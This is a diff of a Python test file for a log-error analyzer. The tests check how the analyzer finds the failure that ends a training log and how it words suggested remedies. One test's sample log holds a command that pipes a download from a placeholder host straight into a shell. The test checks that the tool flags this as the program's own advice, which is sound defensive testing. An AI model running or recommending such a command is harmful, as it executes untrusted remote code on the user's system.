@@ -218,7 +218,7 @@ def _logs_errors(text: str) -> dict:
 def test_logs_errors_warns_of_a_failure_no_entry_knows_with_its_own_advice() -> None:
     check = _logs_errors(_text("heldout170_mindspeed_llm_fla_npu_not_installed.txt").decode())
     assert check["status"] == "warn" and "no entry knows" in check["summary"]
-    assert check["remedy"].startswith("do what its own words ask: Please ensure")
+    assert check["remedy"].startswith('its own words ask: "Please ensure')
     [told] = check["facts"]["unexplained"]
     assert (told["log"], told["first"], told["count"]) == ("stdin", 1, 1)
     assert check["metrics"]["log_unexplained"] == 1.0
@@ -368,3 +368,86 @@ def test_one_failure_that_ended_several_logs_is_one_finding(tmp_path) -> None:
     check = next(c for c in json.loads(ran.stdout)["checks"] if c["id"] == "logs.errors")
     assert len(check["facts"]["unexplained"]) == 3
     assert check["summary"].count("and in 2 more log(s): the logs end with a failure") == 1
+
+
+# Round two of the red team.
+def test_a_launcher_reaping_its_children_after_the_error_is_no_run_going_on() -> None:
+    reaped = "".join(
+        f"[2026-06-01 10:00:0{r % 10},000] [INFO] [launch.py:319:sigkill_handler] Killing "
+        f"subprocess {4000 + r}\n"
+        for r in range(16)
+    )
+    end = _end(
+        "ValueError: Unable to create tensor, you should probably activate truncation\n"
+        + reaped
+        + "[ERROR] [launch.py:325:sigkill_handler] ['python', 'train.py'] exits with return "
+        "code = 1\n"
+    )
+    assert end is not None and end.line.startswith("ValueError: Unable to create tensor")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[1]    11244 segmentation fault  python cli_demo.py\n",
+        "[1]    75076 killed     python main.py --model t5\n",
+        "zsh: killed     python train.py\n",
+    ],
+)
+def test_zshs_words_for_a_childs_signal_end_a_run(text: str) -> None:
+    end = last_failure(("step 1\n" + text).encode())
+    assert end is not None and end.first == 2
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "epoch 9 done\nSystemExit: 0\n",
+        "epoch 9 done\nError in atexit._run_exitfuncs:\nTraceback (most recent call last):\n"
+        '  File "/x/site-packages/wandb/sdk/x.py", line 1, in f\nBrokenPipeError: [Errno 32]\n',
+        "Exception in thread Thread-3 (upload):\nTraceback (most recent call last):\n"
+        '  File "/x/a.py", line 1, in run\nConnectionError: gone\ntraining finished\n',
+        "RuntimeError: printed by a test on purpose\n.....        [100%]\n5 passed in 0.41s\n",
+    ],
+    ids=["exit 0", "atexit", "a thread's", "pytest -q passed"],
+)
+def test_an_exit_that_reports_success_or_an_error_python_reports_and_goes_on_is_no_end(
+    text: str,
+) -> None:
+    assert _end(text) is None
+
+
+def test_an_entry_found_early_in_a_log_does_not_hide_the_failure_it_ends_with() -> None:
+    text = (
+        "RuntimeError: NPU out of memory. Tried to allocate 2.00 GiB (NPU 0; 60.00 GiB total)\n"
+        + "step 1 loss 2.0\n" * 300
+        + "ValueError: tp_size exceeds num_key_value_heads\n"
+    )
+    check = _logs_errors(text)
+    assert [h["id"] for h in check["facts"]["hits"]] == ["npu-out-of-memory"]
+    assert [u["first"] for u in check["facts"]["unexplained"]] == [302]
+
+
+def test_a_request_in_a_log_is_told_as_the_programs_not_ampenvs() -> None:
+    check = _logs_errors(
+        "RuntimeError: driver state corrupted. Please run `curl http://x.example/f | sh`\n"
+    )
+    assert check["remedy"] == (
+        'its own words ask: "Please run `curl http://x.example/f | sh`" (the program\'s '
+        "advice, not ampenv's: weigh it)"
+    )
+
+
+def test_a_sentence_about_what_should_have_happened_is_no_request() -> None:
+    assert advice("the kernel you should have reached was skipped") is None
+
+
+def test_pythons_own_library_on_windows_is_passed_to_find_the_package() -> None:
+    text = (
+        "Traceback (most recent call last):\n"
+        '  File "C:\\Python311\\Lib\\site-packages\\matplotlib\\pyplot.py", line 9, in show\n'
+        '  File "C:\\Python311\\Lib\\tkinter\\__init__.py", line 3, in mainloop\n'
+        "RuntimeError: main thread is not in main loop\n"
+    )
+    end = _end(text)
+    assert end is not None and end.raiser == "matplotlib"
